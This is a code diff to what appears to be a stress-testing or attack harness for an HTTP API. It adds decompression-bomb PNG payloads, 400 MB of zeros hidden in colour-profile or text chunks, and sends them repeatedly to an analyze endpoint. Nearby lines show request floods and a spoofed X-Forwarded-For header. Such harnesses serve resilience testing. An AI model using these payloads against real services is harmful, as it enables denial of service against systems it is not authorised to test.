@@ -140,6 +140,23 @@ def png(width=8000, height=5000):
     return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
 
 
+def packed_chunk(kind, before):
+    """A small picture with 400 MB of zeros packed into 400 kB, in a chunk that holds a colour profile or a text."""
+    packer = zlib.compressobj(9)
+    packed = b"".join(packer.compress(bytes(1 << 20)) for _ in range(400)) + packer.flush()
+    small = png(64, 64)
+    body = before + b"\0\0" + packed
+    chunk = struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+    return small[:33] + chunk + small[33:]
+
+
+def bombs(token):
+    """Small files that are large when they are unpacked."""
+    kinds = [gif(), packed_chunk(b"iCCP", b"profile"), packed_chunk(b"zTXt", b"Comment")]
+    requests = [head("POST /api/v1/analyze", kind, token) for kind in kinds]
+    return lambda: random.choice(requests)
+
+
 def text(string):
     return struct.pack(">H", len(string)) + string
 
@@ -235,7 +252,7 @@ def attacks(token):
         "pipelines": lambda p, e: hold(p, e, 60, some_address, head("GET /api/v1/state", token=token) * 300),
         "unread views": unread("/api/v1/events?svg=true&recent=200"),
         "unread history": unread("/api/v1/history/events?days=3660"),
-        "bombs": lambda p, e: repeat(p, e, head("POST /api/v1/analyze", gif(), token), some_address, pause=0.2, workers=4),
+        "bombs": lambda p, e: repeat(p, e, bombs(token), some_address, pause=0.2, workers=4),
         "large pictures": lambda p, e: repeat(p, e, head("POST /api/v1/analyze", png(), token), some_address, pause=0.2, workers=2),
         "commands": lambda p, e: commands(e),
         "forwarded": lambda p, e: repeat(p, e, lambda: b"GET / HTTP/1.1\r\nHost: ha.local\r\nX-Ingress-Path: /a\r\nX-Forwarded-For: 10.77.0.2\r\n\r\n",
